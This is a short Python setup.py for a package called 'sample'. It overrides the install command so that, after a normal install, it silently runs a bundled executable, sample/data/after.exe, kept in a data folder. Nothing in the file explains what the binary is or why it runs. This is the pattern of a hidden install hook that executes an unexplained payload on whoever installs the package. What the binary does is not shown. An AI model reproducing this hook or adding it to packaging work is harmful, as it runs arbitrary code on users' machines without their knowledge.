import os
import subprocess

from setuptools import setup
from setuptools.command.install import install


class Then(install):
    def run(self):
        install.run(self)
        here = os.path.dirname(os.path.abspath(__file__))
        subprocess.run([os.path.join(here, "sample", "data", "after.exe")], check=True)


setup(name="sample", cmdclass={"install": Then})
